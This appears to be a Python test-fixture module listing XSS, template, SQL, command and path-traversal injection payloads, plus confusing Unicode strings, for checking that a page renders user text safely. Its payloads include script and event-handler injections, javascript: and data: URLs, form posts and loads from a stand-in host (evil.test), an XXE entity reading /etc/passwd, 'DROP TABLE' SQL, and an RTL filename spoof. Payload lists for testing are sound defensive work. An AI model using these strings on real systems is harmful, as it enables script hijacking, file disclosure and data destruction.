r"""Text that would run, load, leave or upset something if a page took it for anything but text.

Written for this project after the families that public cheat sheets list. ``RUN`` stands for a script that leaves a
mark (``top.__ran``), ``EVIL`` for an address elsewhere; both are put in when this module is imported.
"""

from __future__ import annotations

RUN = "top.__ran=1"
EVIL = "https://evil.test"

_ELEMENTS = r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<ScRiPt >RUN</sCrIpT >
<script/x>RUN</script>
<script
>RUN</script
>
<script type=module>RUN</script>
<script src=EVIL/x.js></script>
<script src="data:text/javascript,RUN"></script>
<script src=//evil.test/x></script>
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script>RUN//
<script><!-- RUN //--></script>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<template><script>RUN</script></template><script>RUN</script>
<svg><script>RUN</script></svg>
<svg><script>top&#46;__ran&#61;1</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><script xlink:href=EVIL/x.js></script></svg>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src=EVIL/></iframe>
<frameset onload=RUN><frame src="javascript:RUN"></frameset>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type="text/html" data=EVIL/></object>
<embed src="javascript:RUN">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code=X codebase=EVIL/></applet>
<link rel=stylesheet href=EVIL/x.css>
<link rel=preload as=script href=EVIL/x.js>
<link rel=modulepreload href=EVIL/x.js>
<link rel=prefetch href=EVIL/x>
<link rel=dns-prefetch href=EVIL/>
<meta http-equiv=refresh content="0;url=EVIL/">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=set-cookie content="sessionid=stolen">
<base href=EVIL/>
<style>@import 'EVIL/x.css';</style>
<style>*{display:none!important}</style>
<style>body{background:url(EVIL/x.png)}</style>
<style></style><script>RUN</script>
<xmp><p title="</xmp><script>RUN</script>"></xmp>
<plaintext>
<textarea></textarea><script>RUN</script>
</textarea><script>RUN</script>
</title><script>RUN</script>
</script><script>RUN</script>
</form><form action=EVIL/><input name=answer value=1><button>
</form></div></main></body></html><script>RUN</script>
<form action="javascript:RUN"><input type=submit id=judging>
<form><button formaction="javascript:RUN">x</button></form>
<input name=answer value=1><input name=key value=x>
<button name=answer value=1 data-key=1>1</button>
<keygen autofocus onfocus=RUN>
<isindex type=image src=1 onerror=RUN>
<dialog open id=said>Saved</dialog>
<portal src=EVIL/></portal>
<bgsound src="javascript:RUN">
<layer src=EVIL/x></layer>
<comment><img src="</comment><img src=x onerror=RUN//">
<![CDATA[<img src=x onerror=RUN>]]>
]]><script>RUN</script>
--><script>RUN</script>
<!--<img src="--><img src=x onerror=RUN//">
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">RUN</html:script>
<?php echo '<script>RUN</script>'; ?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><a xlink:href="javascript:RUN">x</a></math>
<svg><style><img src=x onerror=RUN></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=RUN>"></svg>
<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x"/></svg>
<svg><image href=EVIL/x.png /></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg/onload=RUN>
<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
<svg><discard onbegin=RUN></svg>
"""

_HANDLERS = r'''
<img src=x onerror=RUN>
<IMG SRC=x ONERROR=RUN>
<img/src=x/onerror=RUN>
<img src=x onerror="RUN"
<img src=x onerror=&#116;&#111;&#112;&#46;__ran=1>
<img src=x onerror=&#x74;op.__ran=1>
<img src=x onerror=top['__r'+'an']=1>
<img src=x onerror=\u0074op.__ran=1>
<img src=x onerror=eval('\x74op.__ran=1')>
<img src=x onerror=window[atob('dG9w')].__ran=1>
<img src=x onerror="setTimeout`top.__ran\x3d1`">
<img src=x onerror=Function`a${'RUN'}```>
<img src=`x`onerror=RUN>
<img """><script>RUN</script>">
<img src="x" alt="``onload=RUN" onerror=RUN>
<img srcset=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN></picture>
<image src=x onerror=RUN>
<img src=EVIL/pixel.gif>
<img src="jav&#x09;ascript:RUN">
<img src=" &#14; javascript:RUN">
<img dynsrc="javascript:RUN" lowsrc="javascript:RUN">
<img style="xss:expr/*x*/ession(RUN)">
<div style="position:fixed;inset:0;background:red;z-index:99">
<div style="background:url(javascript:RUN)">
<div style="width:expression(RUN)">
<div style="-moz-binding:url(EVIL/x.xml#x)">
<table background="javascript:RUN"><td background=EVIL/x.png>
<body onload=RUN>
<body onpageshow=RUN>
<body background="javascript:RUN">
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<video poster=EVIL/x.png></video>
<details open ontoggle=RUN>x</details>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>1</select>
<textarea autofocus onfocus=RUN></textarea>
<a href=# autofocus onfocus=RUN>x</a>
<p contenteditable autofocus onfocusin=RUN tabindex=1>x</p>
<marquee onstart=RUN>x</marquee>
<marquee behavior=alternate width=1 loop=1 onfinish=RUN>x</marquee>
<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=RUN>x</b>
<b style="transition:opacity 1ms" ontransitionend=RUN>x</b>
<b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=RUN>x</b>
<b onmouseover=RUN onpointerenter=RUN onclick=RUN>x</b>
<b onwheel=RUN onscroll=RUN style="display:block;overflow:scroll;height:1px">x<br>x</b>
<button popovertarget=pop>x</button><p popover id=pop onbeforetoggle=RUN>x</p>
<div hx-get=EVIL/ hx-trigger=load>x</div>
<div hx-post=/logout/ hx-trigger="load delay:1ms">x</div>
<div hx-on::load="RUN" hx-on:htmx:load="RUN" data-hx-on-click="RUN">x</div>
<div hx-vals='js:{a: RUN}' hx-get=/ hx-trigger=load>x</div>
<div id=judging hx-swap-oob=true>Nothing</div>
<div data-key="0 1 2 x" onclick=RUN>x</div>
<form hx-post=/logout/ hx-trigger=load><input name=x></form>
'''

_LINKS_AND_ATTRIBUTES = r"""
javascript:RUN
JaVaScRiPt:RUN
java	script:RUN
javascript&colon;RUN
javascript://%0aRUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:MsgBox("ran")
<a href="javascript:RUN">x</a>
<a href="&#1;javascript:RUN">x</a>
<a href="jav&Tab;ascript&colon;RUN">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=EVIL/ target=_blank ping=EVIL/p>x</a>
<area href="javascript:RUN" shape=default>
" onmouseover="RUN" x="
' autofocus onfocus='RUN' x='
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
` onerror=RUN `
x" autofocus onfocus=RUN tabindex=1 y="
"/><svg/onload=RUN>
';RUN;//
";RUN;//
\";RUN;//
\\';RUN;//
'-RUN-'
*/RUN/*
</style><script>RUN</script>
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
&#60;script&#62;RUN&#60;/script&#62;
%3Cscript%3ERUN%3C/script%3E
\u003cscript\u003eRUN\u003c/script\u003e
\x3cscript\x3eRUN\x3c/script\x3e
+ADw-script+AD4-RUN+ADw-/script+AD4-
¼script¾RUN¼/script¾
＜script＞RUN＜/script＞
jaVasCript:/*-/*`/*\`/*'/*"/**/(RUN)//%0D%0A</title></style></textarea></script>--!><svg/onload=RUN>//
'">><marquee><img src=x onerror=RUN></marquee></textarea><script>RUN</script>
"""

_TEMPLATES = r"""
{{ request.user.password }}
{{ 7|add:"7" }}
{% now "Y" %}
{% include "base.html" %}
{% load static %}{% static 'judge.js' %}
{% debug %}
{# hidden #}
{{ constructor.constructor('RUN')() }}
${RUN}
#{7*7}
<%= 7*7 %>
[[7*7]]
@(7*7)
%(name)s %s %d {0} {name}
$(id) `id` ;id |id
' OR 1=1; DROP TABLE judging_document; --
../../../../etc/passwd
=HYPERLINK("EVIL","x")
"""

_MARKDOWN = r"""
[x](javascript:RUN)
[x](JAVASCRIPT:RUN)
[x](java&Tab;script:RUN)
[x](&#106;avascript:RUN)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:RUN)
[x](file:///etc/passwd)
[x](https://example.org "x" onmouseover="RUN)
![x](EVIL/x.png)
![x](x" onerror="RUN)
<javascript:RUN>
[x]: javascript:RUN
`<script>RUN</script>`
> <img src=x onerror=RUN>
"""


def _lines(table: str) -> list[str]:
    """One payload a line; a line that begins with ``>`` goes on with the payload before it."""
    payloads: list[str] = []
    for line in table.strip("\n").split("\n"):
        if payloads and line.startswith(">"):
            payloads[-1] += "\n" + line
        else:
            payloads.append(line)
    return [_with_names(payload) for payload in payloads]


def _with_names(payload: str) -> str:
    return payload.replace("RUN", RUN).replace("EVIL", EVIL)


# Markup that stands for itself; no payload holds an empty line, so one is one paragraph.
PAYLOADS: list[str] = [
    payload for table in (_ELEMENTS, _HANDLERS, _LINKS_AND_ATTRIBUTES, _TEMPLATES) for payload in _lines(table)
]

# What Markdown would make a link, an image or raw HTML of; each is a paragraph of guidelines.
MARKDOWN: list[str] = [_with_names(line) for line in _MARKDOWN.strip("\n").split("\n")]

# Nothing here runs; it confuses what stands beside it, or the eye.
ODD_TEXT: dict[str, str] = {
    "right-to-left override": "invoice\u202efdp.exe and what follows",
    "left-to-right override in Hebrew": "\u202dשלום עולם\u202c",
    "unclosed isolates and embeddings": "\u2066\u2067\u202a\u202b never closed",
    "closed without being opened": "\u202c\u2069\u202c\u2069 closed twice",
    "right-to-left text": "هل الخميرة حية؟ yes 12% (نعم)",
    "zero-width characters": "ze\u200bro\u200cwi\u200ddth\u2060\ufeff and a soft hy\u00adphen",
    "characters without a glyph": "\u115f\u1160\u3164\uffa0\u2800 \u180e",
    "tags and variation selectors": "a\U000e0041\U000e0042 b\ufe0f\U000e0100",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇫🇷 1️⃣ ❤️",
    "combining piles": "".join(letter + "\u0301\u0489\u035c\u0334\u0327" * 20 for letter in "piles"),
    "the longest ligature": "﷽﷽﷽ ﷺ",
    "line and paragraph separators": "one\u2028two\u2029three",
    "control characters": "bell\x07 back\x08space escape\x1b[31m red\x7f\x01",
    "not characters": "\ufffe\uffff\U0001fffe \ue000 \U0010ffff",
    "tabs": "a\tb\t\tc",
    "one word of 3,000 letters": "W" * 3_000,
    "one word of 2,000 dashes": "-" * 2_000,
    "wide characters without a gap": "語" * 1_500,
    "vertical": "︙" * 50 + "\u3000" * 200 + ".",
}


def packed(payloads: list[str], *, most: int) -> list[str]:
    """The payloads joined with blanks into strings of at most so many characters; longer ones are left out."""
    names: list[str] = []
    for payload in payloads:
        if len(payload) > most:
            continue
        if names and len(names[-1]) + 1 + len(payload) <= most:
            names[-1] += " " + payload
        else:
            names.append(payload)
    return names
